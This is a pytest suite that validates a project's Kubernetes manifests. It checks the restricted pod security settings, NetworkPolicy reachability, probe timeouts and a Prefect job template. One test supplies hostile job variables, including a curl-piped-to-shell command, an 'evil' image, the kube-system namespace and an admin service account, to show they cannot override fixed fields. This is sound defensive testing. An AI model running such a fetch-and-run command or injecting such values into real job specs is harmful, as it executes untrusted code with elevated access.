"""The Kubernetes manifests in infra/k8s, rendered as kustomize would (tests/infra/kustomize.py) and validated
against the Kubernetes schema offline (kubernetes-validate, strict), plus what the schema cannot say: the
restricted Pod Security Standard on every pod template, NetworkPolicies that select real pods and allow only
the connections sweepnet needs, probe timeouts that survive a busy scheduler. No cluster here."""

from __future__ import annotations

import copy
import re
from pathlib import Path

import kubernetes_validate
import pytest
import yaml
from prefect.utilities.templating import apply_values

from tests.infra.kustomize import CLUSTER_SCOPED, containers, render

K8S = Path(__file__).resolve().parents[2] / "infra" / "k8s"
JOB_TEMPLATE = K8S / "prefect" / "kubernetes-job-template.yaml"
K8S_VERSION = "1.33"
SWEEPNET_IMAGE = "registry.example.com/sweepnet:0.1.0"
POSTGRES_IMAGE = "postgres:16.4-bookworm"
PINNED = re.compile(r"^[\w.\-/]+:(?!latest$)\d[\w.\-]*$")
# Labels the dask-kubernetes operator puts on the pods it makes from DaskCluster/sweepnet.
DASK_POD_LABELS = {role: {"dask.org/cluster-name": "sweepnet", "dask.org/component": role}
                   for role in ("scheduler", "worker")}
API_CLIENTS = {"prefect-worker"}  # the only pods that may mount a service-account token
RESTRICTED_VOLUMES = {"configMap", "csi", "downwardAPI", "emptyDir", "ephemeral", "persistentVolumeClaim",
                      "projected", "secret"}

RENDERED = render(K8S)


def _kinds() -> dict[str, dict]:
    return {f"{d['kind']}/{d['metadata']['name']}": d for d in RENDERED}


def flow_run_job(template: dict | None = None) -> dict:
    """The Job the Kubernetes worker submits for a flow run: the pool template with its defaults filled in
    and env turned into a list, as prefect-kubernetes does."""
    template = template or yaml.safe_load(JOB_TEMPLATE.read_text())
    values = {k: v.get("default") for k, v in template["variables"]["properties"].items()}
    values.update(name="sweepnet-flow-run-abc", labels={"prefect.io/flow-run-id": "0"})
    config = apply_values(copy.deepcopy(template["job_configuration"]), values)
    job = config["job_manifest"]
    for container in job["spec"]["template"]["spec"]["containers"]:
        container["env"] = [{"name": k, "value": v} for k, v in (container["env"] or {}).items()]
    return job


def pod_templates() -> dict[str, tuple[dict, dict]]:
    """Every pod that these manifests make, by name: ``(labels, pod spec)``."""
    pods = {}
    for doc in RENDERED:
        if doc["kind"] in ("Deployment", "StatefulSet"):
            tmpl = doc["spec"]["template"]
            pods[doc["metadata"]["name"]] = (tmpl["metadata"]["labels"], tmpl["spec"])
        elif doc["kind"] == "DaskCluster":
            for role in ("scheduler", "worker"):
                pods[f"dask-{role}"] = (DASK_POD_LABELS[role], doc["spec"][role]["spec"])
    tmpl = flow_run_job()["spec"]["template"]
    pods["flow-run"] = (tmpl["metadata"]["labels"], tmpl["spec"])
    return pods


# ------------------------------------------------------------------ rendering and schema
def test_kustomization_renders_every_object_into_the_namespace():
    kinds = _kinds()
    assert len(RENDERED) == len(kinds) >= 25  # no duplicate names within a kind
    for doc in RENDERED:
        if doc["kind"] not in CLUSTER_SCOPED:
            assert doc["metadata"]["namespace"] == "sweepnet", doc["kind"]
    for name in ("StatefulSet/postgres", "Service/postgres", "Deployment/prefect-server", "Service/prefect-server",
                 "Deployment/mlflow", "Deployment/prefect-worker", "DaskCluster/sweepnet",
                 "NetworkPolicy/default-deny", "ConfigMap/prefect-base-job-template"):
        assert name in kinds, name
    generated = kinds["ConfigMap/prefect-base-job-template"]["data"]["base-job-template.yaml"]
    assert generated == JOB_TEMPLATE.read_text()  # one home for the pool's template


def test_every_object_validates_against_the_kubernetes_schema():
    checked = 0
    for doc in RENDERED:
        if doc["kind"] == "DaskCluster":  # a CRD: validate the pod specs and the Service spec it carries
            for role in ("scheduler", "worker"):
                kubernetes_validate.validate(_pod(doc["spec"][role]["spec"]), K8S_VERSION, strict=True)
            service = {"apiVersion": "v1", "kind": "Service", "metadata": {"name": "s"},
                       "spec": doc["spec"]["scheduler"]["service"]}
            kubernetes_validate.validate(service, K8S_VERSION, strict=True)
        elif doc["kind"] == "DaskAutoscaler":
            assert set(doc["spec"]) == {"cluster", "minimum", "maximum"}
            assert 1 <= doc["spec"]["minimum"] < doc["spec"]["maximum"]
        else:
            kubernetes_validate.validate(doc, K8S_VERSION, strict=True)
        checked += 1
    kubernetes_validate.validate(flow_run_job(), K8S_VERSION, strict=True)
    assert checked == len(RENDERED)


def test_the_validator_rejects_a_misspelt_field():
    bad = copy.deepcopy(_kinds()["Deployment/mlflow"])
    bad["spec"]["template"]["spec"]["containers"][0]["readinesProbe"] = {}
    with pytest.raises(kubernetes_validate.ValidationError, match="readinesProbe"):
        kubernetes_validate.validate(bad, K8S_VERSION, strict=True)


def _pod(spec: dict) -> dict:
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p"}, "spec": spec}


def test_every_file_is_commented():
    for path in [*K8S.glob("*.yaml"), JOB_TEMPLATE]:
        lines = [ln for ln in path.read_text().splitlines() if ln.strip()]
        assert lines[0].startswith("#"), path.name
        assert sum("#" in ln for ln in lines) >= len(lines) // 8, path.name


def test_every_image_is_pinned_and_sweepnet_roles_share_one_image():
    images = {c["name"]: c["image"] for _, spec in pod_templates().values() for c in spec["containers"]}
    assert set(images.values()) == {SWEEPNET_IMAGE, POSTGRES_IMAGE}, images
    assert [n for n, i in images.items() if i == POSTGRES_IMAGE] == ["postgres"]
    assert all(PINNED.match(image) for image in images.values())


# ------------------------------------------------------------------ Pod Security Standard "restricted"
def restricted_violations(spec: dict) -> list[str]:
    """What the `restricted` Pod Security Standard (and sweepnet's no-token rule) rejects in a pod spec."""
    pod = spec.get("securityContext", {})
    out = [f"{key} on the pod" for key in ("hostNetwork", "hostPID", "hostIPC") if spec.get(key)]
    out += [f"volume {v['name']} of a host type" for v in spec.get("volumes", []) if not set(v) - {"name"} <= RESTRICTED_VOLUMES]
    for c in spec["containers"] + spec.get("initContainers", []):
        ctx = c.get("securityContext", {})
        if not ctx.get("runAsNonRoot", pod.get("runAsNonRoot")):
            out.append(f"{c['name']}: runAsNonRoot is not true")
        if ctx.get("runAsUser", pod.get("runAsUser")) == 0:
            out.append(f"{c['name']}: runAsUser 0")
        seccomp = ctx.get("seccompProfile", pod.get("seccompProfile", {})).get("type")
        if seccomp not in ("RuntimeDefault", "Localhost"):
            out.append(f"{c['name']}: seccompProfile {seccomp}")
        if ctx.get("allowPrivilegeEscalation") is not False:
            out.append(f"{c['name']}: allowPrivilegeEscalation is not false")
        if ctx.get("privileged"):
            out.append(f"{c['name']}: privileged")
        caps = ctx.get("capabilities", {})
        if "ALL" not in caps.get("drop", []) or set(caps.get("add", [])) - {"NET_BIND_SERVICE"}:
            out.append(f"{c['name']}: capabilities not dropped")
        if any(p.get("hostPort") for p in c.get("ports", [])):
            out.append(f"{c['name']}: hostPort")
    return out


def test_the_namespace_enforces_the_restricted_pod_security_standard():
    labels = _kinds()["Namespace/sweepnet"]["metadata"]["labels"]
    assert labels["pod-security.kubernetes.io/enforce"] == "restricted"


def test_every_pod_passes_the_restricted_standard_and_mounts_no_token_it_does_not_need():
    pods = pod_templates()
    assert set(pods) == {"postgres", "mlflow", "prefect-server", "prefect-worker", "dask-scheduler",
                         "dask-worker", "flow-run"}
    for name, (_, spec) in pods.items():
        assert restricted_violations(spec) == [], name
        assert spec.get("automountServiceAccountToken") is (name in API_CLIENTS), name
        assert spec.get("serviceAccountName") not in (None, "default"), name
    accounts = {d["metadata"]["name"]: d for d in RENDERED if d["kind"] == "ServiceAccount"}
    assert {spec["serviceAccountName"] for _, spec in pods.values()} <= set(accounts)
    assert restricted_violations({"containers": [{"name": "bare", "image": "x:1"}]}) == [
        "bare: runAsNonRoot is not true", "bare: seccompProfile None", "bare: allowPrivilegeEscalation is not false",
        "bare: capabilities not dropped"]


# ------------------------------------------------------------------ NetworkPolicies
def _selects(selector: dict, labels: dict) -> bool:
    if set(selector) - {"matchLabels"}:
        raise NotImplementedError(f"selector {selector}")
    return all(labels.get(k) == v for k, v in selector.get("matchLabels", {}).items())


def _peers(rules: list[dict], direction: str, pods: dict) -> list[tuple[set, set | None]]:
    """(pod names, ports or None for all) per rule; peers outside the namespace are left out."""
    out = []
    for rule in rules:
        ports = {p["port"] for p in rule["ports"]} if rule.get("ports") else None
        names = set()
        for peer in rule.get(direction, []):
            if "podSelector" in peer and "namespaceSelector" not in peer:
                names |= {n for n, (labels, _) in pods.items() if _selects(peer["podSelector"], labels)}
        out.append((names, ports))
    return out


def allowed(src: str, dst: str, port: int) -> bool:
    """Whether the NetworkPolicies let pod ``src`` open a connection to pod ``dst`` on ``port``."""
    pods = pod_templates()
    policies = [d["spec"] for d in RENDERED if d["kind"] == "NetworkPolicy"]

    def ok(pod: str, other: str, kind: str, direction: str) -> bool:
        mine = [p for p in policies if kind in p["policyTypes"] and _selects(p["podSelector"], pods[pod][0])]
        return not mine or any(other in names and (ports is None or port in ports)
                               for p in mine for names, ports in _peers(p.get(kind.lower(), []), direction, pods))

    return ok(src, dst, "Egress", "to") and ok(dst, src, "Ingress", "from")


def test_network_policies_select_real_pods():
    pods = pod_templates()
    for doc in RENDERED:
        if doc["kind"] != "NetworkPolicy":
            continue
        spec = doc["spec"]
        selectors = [spec["podSelector"]] + [peer["podSelector"] for kind in ("ingress", "egress")
                                             for rule in spec.get(kind, []) for peer in rule.get(
                                                 "from" if kind == "ingress" else "to", [])
                                             if "podSelector" in peer and "namespaceSelector" not in peer]
        for sel in selectors:
            assert any(_selects(sel, labels) for labels, _ in pods.values()), (doc["metadata"]["name"], sel)
    deny = _kinds()["NetworkPolicy/default-deny"]["spec"]
    assert deny["podSelector"] == {} and set(deny["policyTypes"]) == {"Ingress", "Egress"}
    assert "ingress" not in deny and "egress" not in deny


def test_network_policies_allow_what_sweepnet_needs_and_nothing_else():
    pods = set(pod_templates())

    def sources(dst: str, port: int) -> set[str]:
        return {src for src in pods - {dst} if allowed(src, dst, port)}

    assert sources("dask-scheduler", 8786) == {"dask-worker", "flow-run"}
    assert sources("mlflow", 5000) == {"dask-worker", "flow-run"}
    assert sources("prefect-server", 4200) == {"prefect-worker", "flow-run", "dask-worker"}
    assert sources("postgres", 5432) == {"mlflow", "prefect-server"}
    assert sources("dask-worker", 40123) == {"dask-scheduler"} and allowed("dask-worker", "dask-worker", 40123)
    assert sources("flow-run", 8786) == set() and sources("prefect-worker", 8080) == set()
    assert not allowed("mlflow", "dask-scheduler", 8786) and not allowed("flow-run", "postgres", 5432)


# ------------------------------------------------------------------ probes, services, the job template
def test_every_probe_has_a_timeout_that_survives_a_busy_server():
    for name, (_, spec) in pod_templates().items():
        for c in spec["containers"]:
            for kind in ("readinessProbe", "livenessProbe"):
                probe = c.get(kind)
                if probe is None:
                    continue
                assert probe.get("timeoutSeconds", 1) >= 5, (name, kind)
                if kind == "livenessProbe":  # a restart only after minutes of silence: it loses work in flight
                    window = probe.get("periodSeconds", 10) * probe.get("failureThreshold", 3)
                    assert window >= 120, (name, window)
    for name in ("dask-scheduler", "mlflow", "prefect-server", "postgres"):
        assert "readinessProbe" in pod_templates()[name][1]["containers"][0], name


def test_the_scheduler_drops_a_silent_worker_within_a_minute():
    # Dask's default worker-ttl is 5 minutes: a worker node cut off the network would hold its chunks that long.
    from app.services.starters import WORKER_TTL

    env = {e["name"]: e.get("value") for e in pod_templates()["dask-scheduler"][1]["containers"][0].get("env", [])}
    assert env.get("DASK_DISTRIBUTED__SCHEDULER__WORKER_TTL") == WORKER_TTL


def test_services_are_cluster_internal_and_select_real_pods():
    pods = pod_templates()
    for doc in RENDERED:
        assert doc["kind"] != "Ingress"
        if doc["kind"] == "Service":
            assert doc["spec"].get("type", "ClusterIP") == "ClusterIP"
            assert any(_selects({"matchLabels": doc["spec"]["selector"]}, labels) for labels, _ in pods.values())
    scheduler = _kinds()["DaskCluster/sweepnet"]["spec"]["scheduler"]["service"]
    assert scheduler["type"] == "ClusterIP" and {p["port"] for p in scheduler["ports"]} == {8786, 8787}
    assert not [d for d in RENDERED if d["kind"] == "Secret"]  # secrets are created out of band


def test_the_job_template_fixes_image_command_namespace_and_service_account():
    template = yaml.safe_load(JOB_TEMPLATE.read_text())
    variables = set(template["variables"]["properties"])
    assert not variables & {"image", "command", "namespace", "service_account_name", "cluster_config",
                            "image_pull_policy"}
    placeholders = set(re.findall(r"\{\{ *(\w+) *\}\}", JOB_TEMPLATE.read_text()))
    assert placeholders <= variables, placeholders - variables
    job = flow_run_job()
    pod = job["spec"]["template"]["spec"]
    assert (job["metadata"]["namespace"], template["job_configuration"]["namespace"]) == ("sweepnet", "sweepnet")
    assert pod["serviceAccountName"] == "sweepnet-flow-run"
    assert pod["containers"][0]["image"] == SWEEPNET_IMAGE
    assert pod["containers"][0]["args"] == ["prefect", "flow-run", "execute"]
    assert template["job_configuration"]["command"] == "prefect flow-run execute"
    # a deployment's job_variables cannot reach the fixed fields
    hostile = {"image": "evil:1", "command": "sh -c 'curl x | sh'", "namespace": "kube-system",
               "service_account_name": "admin"}
    forced = apply_values(copy.deepcopy(template["job_configuration"]), hostile)
    assert forced["job_manifest"]["spec"]["template"]["spec"] == apply_values(
        copy.deepcopy(template["job_configuration"]), {})["job_manifest"]["spec"]["template"]["spec"]


def test_prefect_worker_polls_the_kubernetes_pool_with_the_generated_template():
    kinds = _kinds()
    deploy = kinds["Deployment/prefect-worker"]
    container = deploy["spec"]["template"]["spec"]["containers"][0]
    command = " ".join(container["args"])
    assert "--type kubernetes" in command and "--base-job-template" in command
    assert "--install-policy never" in command and "pip install" not in command
    volumes = {v["name"]: v for v in deploy["spec"]["template"]["spec"]["volumes"]}
    assert volumes["base-job-template"]["configMap"]["name"] == "prefect-base-job-template"
    assert kinds["RoleBinding/prefect-worker"]["roleRef"]["name"] == "prefect-worker"
    job_rules = [r for r in kinds["Role/prefect-worker"]["rules"] if "jobs" in r["resources"]]
    assert "create" in job_rules[0]["verbs"]
